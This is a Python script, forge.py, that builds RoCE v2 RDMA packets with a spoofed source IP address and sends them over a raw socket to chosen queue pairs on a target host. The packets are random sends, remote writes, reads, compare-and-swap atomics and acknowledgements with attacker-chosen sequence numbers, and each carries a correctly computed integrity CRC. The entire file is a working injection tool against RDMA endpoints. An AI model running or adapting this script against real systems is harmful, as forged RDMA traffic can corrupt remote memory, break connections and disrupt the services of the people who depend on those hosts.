"""forge.py SOURCE DESTINATION SEED QPN:REQUESTS:ANSWERS:COUNT...: RoCE v2 packets as if SOURCE had sent them, to queue pairs
of DESTINATION: so many for each, with sequence numbers from REQUESTS on, or from ANSWERS on if they acknowledge: messages of
one packet, writes, reads, atomics, acknowledgements. The memory that they name is made up. The checksum is right: it has no
key, anybody can compute it."""

import ipaddress
import random
import socket
import struct
import sys
import zlib

ROCE_PORT = 4791
PARTITION = 0xFFFF
ACKNOWLEDGE = 0x80000000  # asked for, beside the PSN

SEND_ONLY, SEND_ONLY_WITH_IMMEDIATE, WRITE_ONLY, WRITE_ONLY_WITH_IMMEDIATE = 0x04, 0x05, 0x0A, 0x0B
READ_REQUEST, ACKNOWLEDGEMENT, COMPARE_AND_SWAP = 0x0C, 0x11, 0x13


def any_message(chance):
    """An opcode, and what follows the base transport header."""
    payload = chance.randbytes(4 * chance.randrange(0, 64))
    immediate = chance.randbytes(4)
    somewhere = struct.pack(">QII", chance.getrandbits(47), chance.getrandbits(32), len(payload))  # address, rkey, length
    return chance.choice((
        (SEND_ONLY, payload), (SEND_ONLY_WITH_IMMEDIATE, immediate + payload),
        (WRITE_ONLY, somewhere + payload), (WRITE_ONLY_WITH_IMMEDIATE, somewhere + immediate + payload),
        (READ_REQUEST, somewhere), (COMPARE_AND_SWAP, somewhere[:12] + chance.randbytes(16)),
        (ACKNOWLEDGEMENT, bytes([0x1F]) + chance.randbytes(3)),
    ))  # fmt: skip


def packet(source, destination, number, psn, message, chance):
    """With its IP header."""
    opcode, rest = message
    transport = struct.pack(">BBHII", opcode, 0x40, PARTITION, number, ACKNOWLEDGE | psn & 0xFFFFFF) + rest
    length = 28 + len(transport) + 4
    identity = chance.randrange(1, 1 << 16)  # nought would be replaced on the way

    def headers(tos, ttl, checksum):
        return struct.pack(">BBHHHBBH4s4s", 0x45, tos, length, identity, 0x4000, ttl, 17, checksum, source, destination) + struct.pack(
            ">HHHH", 0xC000, ROCE_PORT, length - 20, checksum)  # fmt: skip

    # Over what does not change on the way: the rest counts as ones. InfiniBand's LRH, which is not there, too.
    masked = transport[:4] + b"\xff" + transport[5:]
    checksum = zlib.crc32(b"\xff" * 8 + headers(0xFF, 0xFF, 0xFFFF) + masked)
    return headers(0, 64, 0) + transport + struct.pack("<I", checksum)


def main():
    source, destination = (ipaddress.ip_address(address).packed for address in sys.argv[1:3])
    chance = random.Random(sys.argv[3])
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for target in sys.argv[4:]:
            number, requests, answers, count = map(int, target.split(":"))
            for place in range(count):
                message = any_message(chance)
                psn = place + (answers if message[0] == ACKNOWLEDGEMENT else requests)
                raw.sendto(packet(source, destination, number, psn, message, chance), (sys.argv[2], 0))


if __name__ == "__main__":
    main()
